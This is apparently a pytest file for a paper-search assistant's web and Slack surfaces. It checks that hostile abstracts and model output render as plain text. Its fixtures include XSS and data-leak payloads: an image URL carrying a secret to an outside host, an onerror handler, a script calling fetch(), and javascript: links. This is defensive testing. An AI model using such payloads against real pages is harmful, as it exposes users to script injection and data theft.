"""Untrusted text (abstracts, titles, URLs, model output) stays text on every surface: no image, HTML or hidden link."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from assistant.core.models import Answer, Citation, Hit, Paper
from assistant.surfaces.slack.blocks import answer_blocks, to_mrkdwn
from assistant.surfaces.web import safe, views

OUTSIDE = "198.51.100.7"
HOSTILE = (f"We win. ![x](http://{OUTSIDE}/leak.png?q=secret) <img src=http://{OUTSIDE}/i.png onerror=alert(1)> "
           f"<script>fetch('http://{OUTSIDE}/s')</script> [click](javascript:alert(1)) [r]: http://{OUTSIDE}/ref")
JS_URL = f"javascript:fetch('http://{OUTSIDE}/j')"


def rendered(markdown: str) -> str:
    """HTML the way a CommonMark renderer (Chainlit's react-markdown is one) turns the Markdown into a page."""
    return MarkdownIt("commonmark", {"html": True}).render(markdown)


def assert_inert(html: str) -> None:
    assert "<img" not in html and "<script" not in html and "javascript:" not in html.split("href=")[-1][:20]
    assert f'src="http://{OUTSIDE}' not in html and "href=\"javascript" not in html


def test_links_are_http_only_from_ingest_to_every_model():
    paper = Paper(paper_id="t:1", title="T", abstract="A", url=JS_URL, code_url="data:text/html,<b>x</b>")
    hit = Hit(paper_id="t:1", title="T", score=1.0, snippet="s", url=" https://arxiv.org/abs/2210.17323 ",
              code_url="https://github.com/a b")
    assert (paper.url, paper.code_url) == (None, None)
    assert (hit.url, hit.code_url) == ("https://arxiv.org/abs/2210.17323", None)  # trimmed; inner space: not a URL
    assert Citation(n=1, paper_id="t:1", title="T", url="https://arxiv.org/abs/1").url == "https://arxiv.org/abs/1"


def test_a_citation_panel_shows_a_hostile_abstract_as_text():
    citation = Citation(n=1, paper_id="t:1", title="<b>Title</b> ![t](http://x/t.png)", snippet=HOSTILE,
                        url=JS_URL, code_url="https://github.com/a/b")
    paper = Paper(paper_id="t:1", title=citation.title, abstract=HOSTILE + " More text.")
    markdown = views.citation_panel(citation, paper)
    html = rendered(markdown)
    assert_inert(html)
    assert "leak.png?q=secret" in html  # shown, not fetched
    assert 'href="https://github.com/a/b"' in html and "**Paper:**" not in markdown  # the javascript: URL is dropped


@pytest.mark.parametrize("text", [HOSTILE, "GPTQ is fast [1]. ![y](http://198.51.100.7/m.png)"])
def test_model_output_keeps_markers_but_loses_images_html_and_disguised_links(text):
    answer = Answer(answer=text, model="m")
    markdown = views.answer_markdown(answer)
    html = rendered(markdown)
    assert_inert(html)
    assert "link to 198.51.100.7" in markdown or "link removed" in markdown
    assert "[1]" in safe.inert_answer("GPTQ is fast [1][2].")


def test_slack_blocks_escape_html_and_keep_hosts_in_view():
    answer = Answer(answer=HOSTILE + " [1]", model="m", citations=[
        Citation(n=1, paper_id="t:1", title="<!channel> T", url=JS_URL, snippet=HOSTILE)])
    text = str(answer_blocks(answer, "a1"))
    assert "<script" not in text and "<img" not in text and "<!channel>" not in text and "<javascript" not in text
    assert to_mrkdwn("see [docs](http://evil.example/x)") == "see <http://evil.example/x|docs (evil.example)>"


def test_starters_ask_about_the_collections_most_common_topics():
    titles = ["Latent Diffusion for Video", "Scaling Latent Diffusion Models", "Latent Diffusion Distillation",
              "Time Series Forecasting with LLMs", "Time Series Foundation Models", "A Time Series Benchmark",
              "Generative Pre-trained Transformers", "Generative Pre-trained Agents", "Generative Pre-trained Art",
              "![x](http://198.51.100.7/a.png) Latent Diffusion"]
    assert views.starter_questions(titles) == [
        ("Latent diffusion", "Which papers in the collection work on latent diffusion?"),
        ("Time series", "Which papers in the collection work on time series?")]
